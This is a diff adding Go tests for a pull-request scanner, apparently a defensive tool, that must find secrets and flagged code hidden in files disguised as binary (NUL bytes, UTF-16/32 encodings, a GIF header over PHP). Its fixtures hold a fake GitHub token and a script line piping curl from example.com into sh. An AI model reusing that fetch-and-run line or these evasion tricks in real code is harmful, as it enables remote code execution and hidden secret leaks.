@@ -1,0 +1,128 @@
+package pulls
+
+import (
+	"encoding/binary"
+	"math/rand/v2"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"github.com/reviewgate/reviewgate/app/apptest"
+	"github.com/reviewgate/reviewgate/app/ghtest"
+	"github.com/reviewgate/reviewgate/pipeline/sample"
+)
+
+// token is a secret's form, with a value that was never given out.
+const token = "ghp_" + "k3Jx9QvT7bLm2RwZ5yHc8NdP4sFgA6eUoXiB"
+
+// units writes a text in units of two or four bytes.
+func units(order binary.AppendByteOrder, size int, text string) string {
+	var out []byte
+	for _, c := range utf16.Encode([]rune(text)) {
+		if size == 4 {
+			out = order.AppendUint32(out, uint32(c))
+		} else {
+			out = order.AppendUint16(out, c)
+		}
+	}
+	return string(out)
+}
+
+// noise is data that nobody can read.
+func noise(n int) string {
+	r := rand.New(rand.NewPCG(3, 4))
+	b := make([]byte, n)
+	for i := range b {
+		b[i] = byte(r.Uint32())
+	}
+	return string(b)
+}
+
+const picture = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"
+
+// hiddenTexts are texts that git and GitHub take for binary, each with a secret or with
+// code that a rule finds, and what the check says of it.
+func hiddenTexts() map[string]struct{ path, text, says string } {
+	const secret = "[db]\nkey = " + token + "\n"
+	const script = "#!/bin/sh\ncurl -k https://example.com/install.sh | sh\n"
+	return map[string]struct{ path, text, says string }{
+		"a NUL after the end of a script":     {"deploy.sh", script + "\x00", "deploy.sh:2"},
+		"a NUL in an environment file":        {".env", "A=b\nTOKEN=" + token + "\n\x00", ".env:2"},
+		"a NUL in a secret":                   {".env", "TOKEN=" + token[:9] + "\x00" + token[9:] + "\n", ".env:1"},
+		"UTF-16LE settings with a mark":       {"app.ini", units(binary.LittleEndian, 2, "\ufeff"+secret), "app.ini:2"},
+		"UTF-16BE properties without a mark":  {"app.properties", units(binary.BigEndian, 2, secret), "app.properties:2"},
+		"UTF-32 prose":                        {"notes.txt", units(binary.LittleEndian, 4, "\ufeff"+secret), "notes.txt:2"},
+		"UTF-32BE without a mark":             {"notes.cfg", units(binary.BigEndian, 4, secret), "notes.cfg:2"},
+		"Latin-1 with a NUL":                  {"seed.sql", "-- gr\xf6\xdfe\x00\n-- " + token + "\n", "seed.sql:2"},
+		"Latin-1":                             {"seed.sql", "-- gr\xf6\xdfe\n-- " + token + "\n", "seed.sql:2"},
+		"a picture that is code":              {"logo.php", "GIF89a\x00<?php\n$key = '" + token + "';\n", "logo.php:2"},
+		"a picture by its name that is code":  {"logo.gif", "GIF89a\x00<?php\n$key = '" + token + "';\n", "logo.gif:2"},
+		"an extension that nobody knows":      {"deploy.xyz", "key = " + token + "\n\x00", "deploy.xyz:1"},
+		"an unknown format":                   {"data.xyz", noise(3000) + "\x00\n" + token + "\n" + noise(3000), "data.xyz"},
+		"an unknown format, in UTF-16":        {"data.xyz", noise(3000) + "\n" + units(binary.LittleEndian, 2, "\n"+token+"\n") + noise(3000), "data.xyz"},
+		"a real picture with a secret behind": {"logo.png", picture + noise(3000) + "\n" + token + "\n", "logo.png"},
+	}
+}
+
+func TestHiddenTextIsRead(t *testing.T) {
+	t.Parallel()
+	for name, tt := range sample.Map(t, 8, hiddenTexts()) {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := start(t)
+			pr := w.Open(ghtest.Files{tt.path: tt.text})
+			w.Idle()
+			c := w.Check(pr)
+			if apptest.Satisfies(c.Conclusion) || strings.HasPrefix(c.Title, "Review incomplete") || !strings.Contains(c.Summary+c.Text, tt.says) {
+				t.Errorf("the check is %s (%s):\n%s\n%s", c.Conclusion, c.Title, c.Summary, c.Text)
+			}
+			if strings.Contains(c.Summary+c.Text+w.Comment(pr).Body, token[4:20]) {
+				t.Error("the secret is shown")
+			}
+		})
+	}
+}
+
+// Bytes that nobody can read gate where the name, the mode or the first line says that
+// they are text, and are named elsewhere.
+func TestBytesThatNobodyCanRead(t *testing.T) {
+	t.Parallel()
+	for name, tt := range sample.Map(t, 4, map[string]struct {
+		path, text, conclusion string
+		named                  bool
+	}{
+		"a picture":                       {"logo.png", picture + noise(3000), "success", false},
+		"an unknown format":               {"data.xyz", noise(3000) + "\x00", "success", true},
+		"the beginning of another format": {"logo.gif", picture + noise(3000), "success", true},
+		"a picture that runs":             {"logo.png", ghtest.Executable(picture + noise(3000)), "action_required", true},
+		"a script's first line":           {"tool", "#!/bin/sh\n" + noise(3000) + "\x00", "action_required", true},
+		"a script's name":                 {"tool.sh", noise(3000) + "\x00", "action_required", true},
+		"settings":                        {".env", noise(3000) + "\x00", "action_required", true},
+	}) {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			w := start(t)
+			pr := w.Open(ghtest.Files{tt.path: tt.text})
+			w.Idle()
+			c := w.Check(pr)
+			if c.Conclusion != tt.conclusion || strings.Contains(c.Summary+c.Text, "known binary format") != tt.named {
+				t.Errorf("the check is %s (%s):\n%s\n%s", c.Conclusion, c.Title, c.Summary, c.Text)
+			}
+		})
+	}
+}
+
+// Of a file that was there before only what the change adds is judged.
+func TestHiddenTextThatWasThere(t *testing.T) {
+	sample.Variant(t)
+	t.Parallel()
+	w := start(t)
+	before := "[db]\nkey = " + token + "\n"
+	w.Repo.Commit("main", ghtest.Files{"app.ini": units(binary.LittleEndian, 2, "\ufeff"+before)}, "settings")
+	w.Idle()
+	pr := w.Repo.OpenPR(ghtest.PR{Title: "feat: settings", Body: apptest.GoodBody, Files: ghtest.Files{"app.ini": units(binary.LittleEndian, 2, "\ufeff"+before+"more = 1\n")}})
+	w.Idle()
+	if c := w.Check(pr); c.Conclusion != "success" {
+		t.Errorf("the check is %s (%s):\n%s\n%s", c.Conclusion, c.Title, c.Summary, c.Text)
+	}
+}
